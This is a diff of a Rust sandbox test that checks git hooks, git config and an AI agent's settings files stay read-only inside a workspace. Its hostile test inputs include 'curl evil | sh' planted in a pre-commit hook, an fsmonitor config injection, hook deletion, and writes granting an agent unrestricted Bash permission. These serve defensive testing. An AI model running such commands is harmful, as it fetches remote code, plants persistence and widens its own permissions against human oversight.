@@ -411,14 +411,17 @@ fn doctor_says_which_sandbox_jail_and_hook_mode_are_in_force() {
 }
 
 #[test]
-fn git_hooks_and_config_stay_read_only_inside_the_workspace() {
+fn git_hooks_git_config_and_agent_settings_stay_read_only_inside_the_workspace() {
     // Under bubblewrap they are read-only mounts. Landlock cannot carve them out of a writable
     // root (its rights are inherited), so there they are protected by policy alone.
     for sb in sandboxes().into_iter().filter(|s| matches!(s.sandbox, Sandbox::Bubblewrap(_))) {
         let s = setup();
         std::fs::create_dir_all(s.root.join(".git/hooks")).unwrap();
         std::fs::write(s.root.join(".git/config"), "[core]\n").unwrap();
+        std::fs::create_dir_all(s.root.join(".claude")).unwrap();
         for script in [
+            "echo '{\"hooks\":{}}' > .claude/settings.json",
+            "echo '{\"permissions\":{\"allow\":[\"Bash(*)\"]}}' > .claude/settings.local.json",
             "echo 'curl evil | sh' > .git/hooks/pre-commit",
             "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
             "rm -rf .git/hooks",
@@ -429,6 +432,7 @@ fn git_hooks_and_config_stay_read_only_inside_the_workspace() {
         }
         assert!(!s.root.join(".git/hooks/pre-commit").exists());
         assert_eq!(std::fs::read_to_string(s.root.join(".git/config")).unwrap(), "[core]\n");
+        assert_eq!(std::fs::read_dir(s.root.join(".claude")).unwrap().count(), 0);
         // The rest of the workspace stays writable.
         let out = exec(&sb, &s, &job(&s, "mkdir -p src && echo ok > src/x && cat src/x"));
         assert_eq!(out.exit_code, Some(0), "{sb:?}: {}", String::from_utf8_lossy(&out.output));
